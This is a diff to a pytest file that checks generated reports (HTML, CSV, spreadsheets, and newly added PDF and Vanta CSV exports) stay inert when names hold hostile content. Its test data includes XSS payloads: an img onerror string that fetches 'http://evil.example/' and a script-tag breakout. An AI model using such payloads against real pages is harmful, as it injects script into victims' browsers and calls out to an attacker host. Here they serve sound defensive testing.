@@ -9,12 +9,14 @@ from __future__ import annotations
 import csv
 import json
 import re
+import shutil
+import subprocess
 from datetime import datetime
 from pathlib import Path
 
 import pytest
 
-from browsing import Browsing
+from browsing import NO_PRINT, Browsing
 from e2e.command import sigma_audit
 from hostile import HOSTILE
 from inert import is_inert
@@ -29,9 +31,10 @@ LIBRARY = Library()
 ATTACK = "<img src=x onerror=\"document.title='owned';fetch('http://evil.example/')\">"
 SCRIPT = "</td></script><script>document.title='owned';alert(1)</script>"
 LONG = HOSTILE["long"]
+SHORT = ("privileged", "teams", "changes")  # what a PDF holds; each shows every name
 NAMES = [ATTACK, SCRIPT, *(name for key, name in HOSTILE.items() if key != "long")]
 CHANGED = NAMES[::4]  # what moves between the two snapshots
-FILE = re.compile(r"([a-z_]+/)?[a-z0-9_-]+\.(html|csv|json|xlsx|facts\.json)")
+FILE = re.compile(r"([a-z_]+/)?[a-z0-9_-]+\.(html|csv|json|xlsx|pdf|vanta\.csv|facts\.json)")
 
 
 def organisation() -> World:
@@ -85,6 +88,8 @@ def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
         Dossier("object_dossier", {"what": place}),
     ]
     write_reports((), after, before, FORMATS, out, {}, LIBRARY, dossiers=dossiers, pages=5)
+    write_reports(["access_by_member"], after, None, ["vanta-csv"], out, {}, LIBRARY)
+    write_reports(SHORT, after, before, ["pdf"], out, {}, LIBRARY, dossiers=dossiers[:1])
     leavers = root / "leavers.csv"
     with leavers.open("w", newline="", encoding="utf-8") as file:
         csv.writer(file).writerows(
@@ -130,7 +135,33 @@ def test_no_cell_of_a_spreadsheet_computes(written: Path) -> None:
         assert sum(sheet.formulas for sheet in sheets.values()) == 0, path.name
         books += 1
     assert quoted > 100
+    accounts = csv_rows((written / "access_by_member.vanta.csv").read_bytes())
+    assert sum(cell.startswith("'=") for row in accounts for cell in row) > 5
     assert books >= len(catalog(LIBRARY)) - 4
+
+
+def test_a_pdf_shows_the_names_and_does_nothing(written: Path) -> None:
+    pages = sorted(written.glob("*.pdf"))
+    assert len(pages) == len(SHORT) + 1
+    for path in pages:
+        body = path.read_bytes()
+        # Its objects are compressed, so they are read by a reader of its own.
+        told = pdf_text("pdftotext", path, "-")
+        assert "onerror=" in told, path.name
+        assert "<script>" in told, path.name
+        assert body.startswith(b"%PDF-"), path.name
+        assert pdf_text("pdfinfo", "-js", path).strip() == "", path.name
+        assert "http" not in pdf_text("pdfinfo", "-url", path), path.name
+        assert re.search(r"JavaScript: +no", pdf_text("pdfinfo", path)), path.name
+
+
+def pdf_text(*words: str | Path) -> str:
+    """Put a tool of poppler's to a file, and give what it says."""
+    tool = shutil.which(str(words[0]))
+    if tool is None:
+        pytest.skip(NO_PRINT)
+    done = subprocess.run([tool, *words[1:]], capture_output=True, text=True, check=True)
+    return done.stdout
 
 
 def test_a_megabyte_is_kept_whole(written: Path) -> None:
